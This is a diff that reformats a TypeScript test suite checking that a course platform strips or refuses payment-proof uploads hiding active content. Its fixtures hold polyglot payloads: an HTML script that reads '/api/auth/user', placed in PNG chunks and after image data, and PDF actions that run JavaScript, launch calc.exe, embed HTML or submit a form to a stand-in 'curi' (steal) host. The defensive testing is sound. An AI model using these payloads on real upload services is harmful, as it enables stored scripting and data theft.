@@ -9,7 +9,14 @@ import type { OrderDetail } from '@akademi-siber/util-contracts';
 import { bearer, buildTestApp, expectErrorEnvelope, loginAs, type TestApp } from '../../test/helpers';
 import { receiptPdf, solidPng } from '../storage/demo-files';
 import { jpegParts, pngChunk, riffChunk, webp } from '../storage/image-fixtures';
-import { CHANCE_NAMES, jpegWithScanData, pdfWith as pdf, pdfWithObjectStreams as compressedPdf, pdfWithPicture, withStream } from '../storage/pdf-fixtures';
+import {
+  CHANCE_NAMES,
+  jpegWithScanData,
+  pdfWith as pdf,
+  pdfWithObjectStreams as compressedPdf,
+  pdfWithPicture,
+  withStream,
+} from '../storage/pdf-fixtures';
 import { checkout, newMember, orderOf, uploadProof, type TestMember } from './testing';
 
 const HTML = '<html><body><script>fetch("/api/auth/user").then((r) => r.text()).then(alert)</script></body></html>';
@@ -47,19 +54,29 @@ describe('payment proofs that are also another kind of file', () => {
     rmSync(uploadDir, { recursive: true, force: true });
   });
 
-  const newOrder = async (member: TestMember) => orderOf(await checkout(harness, member.token, { kind: 'course', items: [{ type: 'course', ref: 'analisis-malware' }] }));
-  const storedFiles = () => readdirSync(uploadDir, { recursive: true, withFileTypes: true }).filter((entry) => entry.isFile()).length;
+  const newOrder = async (member: TestMember) =>
+    orderOf(
+      await checkout(harness, member.token, { kind: 'course', items: [{ type: 'course', ref: 'analisis-malware' }] }),
+    );
+  const storedFiles = () =>
+    readdirSync(uploadDir, { recursive: true, withFileTypes: true }).filter((entry) => entry.isFile()).length;
 
   /** Uploads to a fresh order (of a new member: one open order per course), expects it taken, returns the download. */
   async function acceptedDownload(bytes: Buffer, filename: string) {
     members += 1;
     const member = await newMember(harness, `pengirim.poliglot${members}`);
     const order = await newOrder(member);
-    const response = await uploadProof(harness, member.token, order.idTransaction, { filename, contentType: 'text/html', bytes });
+    const response = await uploadProof(harness, member.token, order.idTransaction, {
+      filename,
+      contentType: 'text/html',
+      bytes,
+    });
     expect(response.statusCode).toBe(200);
     const detail = response.json<{ data: OrderDetail }>().data;
     const url = `/api/lcadm/orders/${order.idTransaction}`;
-    const { token } = (await harness.app.inject({ method: 'GET', url: `${url}/proof-token`, headers: bearer(admin) })).json<{ data: { token: string } }>().data;
+    const { token } = (
+      await harness.app.inject({ method: 'GET', url: `${url}/proof-token`, headers: bearer(admin) })
+    ).json<{ data: { token: string } }>().data;
     const file = await harness.app.inject({ method: 'GET', url: `${url}/proof?token=${token}` });
     expect(file.statusCode).toBe(200);
     expect(file.rawPayload.length).toBe(detail.proof?.size);
@@ -72,7 +89,11 @@ describe('payment proofs that are also another kind of file', () => {
   /** Uploads to the open order and expects a 422 with `message`, nothing stored. */
   async function refused(bytes: Buffer, message: string) {
     const before = storedFiles();
-    const response = await uploadProof(harness, buyer.token, open.idTransaction, { filename: 'bukti.pdf', contentType: 'application/pdf', bytes });
+    const response = await uploadProof(harness, buyer.token, open.idTransaction, {
+      filename: 'bukti.pdf',
+      contentType: 'application/pdf',
+      bytes,
+    });
     expect(expectErrorEnvelope(response, 422)).toBe(message);
     expect(storedFiles()).toBe(before);
   }
@@ -84,15 +105,25 @@ describe('payment proofs that are also another kind of file', () => {
   });
 
   it('drops HTML kept in PNG text chunks and in a chunk of its own', async () => {
-    const tagged = Buffer.concat([PNG.subarray(0, IHDR_END), pngChunk('tEXt', latin1(`Comment\0${HTML}`)), pngChunk('iTXt', latin1(`XML\0\0\0\0\0${HTML}`)), pngChunk('htMl', latin1(HTML)), PNG.subarray(IHDR_END)]);
+    const tagged = Buffer.concat([
+      PNG.subarray(0, IHDR_END),
+      pngChunk('tEXt', latin1(`Comment\0${HTML}`)),
+      pngChunk('iTXt', latin1(`XML\0\0\0\0\0${HTML}`)),
+      pngChunk('htMl', latin1(HTML)),
+      PNG.subarray(IHDR_END),
+    ]);
     const { file } = await acceptedDownload(tagged, 'bukti.png');
     expect(file.rawPayload.equals(PNG)).toBe(true);
   });
 
   it('stores a JPEG and a WebP without what follows their end', async () => {
-    expect((await acceptedDownload(Buffer.concat([jpeg, latin1(HTML)]), 'bukti.jpg')).file.rawPayload.equals(jpeg)).toBe(true);
+    expect(
+      (await acceptedDownload(Buffer.concat([jpeg, latin1(HTML)]), 'bukti.jpg')).file.rawPayload.equals(jpeg),
+    ).toBe(true);
     const picture = webp([riffChunk('VP8L', Buffer.from([0x2f, 1, 2, 3, 4]))]);
-    expect((await acceptedDownload(Buffer.concat([picture, latin1(HTML)]), 'bukti.webp')).file.rawPayload.equals(picture)).toBe(true);
+    expect(
+      (await acceptedDownload(Buffer.concat([picture, latin1(HTML)]), 'bukti.webp')).file.rawPayload.equals(picture),
+    ).toBe(true);
   });
 
   it('refuses a PDF that runs JavaScript when opened, also with escaped names and inside compressed object streams', async () => {
@@ -106,15 +137,27 @@ describe('payment proofs that are also another kind of file', () => {
   });
 
   it('takes a photo PDF whose picture bytes happen to spell /JS, /AA and /JavaScript, and still refuses a script behind a fake picture header', async () => {
-    const photo = await pdfWithPicture({ jpeg: jpegWithScanData(Buffer.concat([Buffer.alloc(512, 0x3c), CHANCE_NAMES, Buffer.alloc(512, 0xc3)])) });
+    const photo = await pdfWithPicture({
+      jpeg: jpegWithScanData(Buffer.concat([Buffer.alloc(512, 0x3c), CHANCE_NAMES, Buffer.alloc(512, 0xc3)])),
+    });
     expect((await acceptedDownload(photo, 'struk-foto.pdf')).file.rawPayload.equals(photo)).toBe(true);
-    await refused(pdf('/OpenAction 5 0 R', ['<< /Title (<< /Subtype /Image >> stream\n) >>', '<< /Type /Action /S /JavaScript /JS (app.alert\\(1\\)) >>', '<< /Note (endstream) >>']), ACTIVE);
+    await refused(
+      pdf('/OpenAction 5 0 R', [
+        '<< /Title (<< /Subtype /Image >> stream\n) >>',
+        '<< /Type /Action /S /JavaScript /JS (app.alert\\(1\\)) >>',
+        '<< /Note (endstream) >>',
+      ]),
+      ACTIVE,
+    );
   });
 
   it('refuses launch actions, embedded files, rich media, forms that send or import data and embedded go-tos', async () => {
     const cases = [
       pdf('/AA << /WC << /S /Launch /F (calc.exe) >> >>'),
-      pdf('/Names << /EmbeddedFiles << /Names [(a.html) 4 0 R] >> >>', [`<< /Type /Filespec /F (a.html) /EF << /F 5 0 R >> >>`, `<< /Type /EmbeddedFile /Length ${HTML.length} >>\nstream\n${HTML}\nendstream`]),
+      pdf('/Names << /EmbeddedFiles << /Names [(a.html) 4 0 R] >> >>', [
+        `<< /Type /Filespec /F (a.html) /EF << /F 5 0 R >> >>`,
+        `<< /Type /EmbeddedFile /Length ${HTML.length} >>\nstream\n${HTML}\nendstream`,
+      ]),
       pdf('', ['<< /Type /Annot /Subtype /RichMedia >>']),
       pdf('/OpenAction << /S /SubmitForm /F (https://contoh.test/curi) >>'),
       pdf('/OpenAction << /S /ImportData /F (data.fdf) >>'),
@@ -149,7 +192,10 @@ describe('payment proofs that are also another kind of file', () => {
 
     const jpg = await acceptedDownload(jpeg, 'halaman.html');
     // The name is the member's, the extension the one the bytes were checked as.
-    expect(jpg.file.headers).toMatchObject({ 'content-type': 'image/jpeg', 'content-disposition': expect.stringMatching(/^attachment; filename="halaman\.jpg"/) });
+    expect(jpg.file.headers).toMatchObject({
+      'content-type': 'image/jpeg',
+      'content-disposition': expect.stringMatching(/^attachment; filename="halaman\.jpg"/),
+    });
 
     const receipt = receiptPdf(['Bukti Transfer', 'Jumlah: Rp 100.000']);
     const plain = await acceptedDownload(receipt, 'bukti.pdf');
@@ -159,6 +205,9 @@ describe('payment proofs that are also another kind of file', () => {
     expect((await acceptedDownload(modern, 'bukti.pdf')).file.rawPayload.equals(modern)).toBe(true);
     // What was stored is what the checks left, byte for byte.
     const stored = readdirSync(uploadDir, { recursive: true, withFileTypes: true }).filter((entry) => entry.isFile());
-    for (const entry of stored) expect(readFileSync(path.join(entry.parentPath, entry.name)).toString('latin1').toLowerCase()).not.toContain('<script');
+    for (const entry of stored)
+      expect(readFileSync(path.join(entry.parentPath, entry.name)).toString('latin1').toLowerCase()).not.toContain(
+        '<script',
+      );
   });
 });
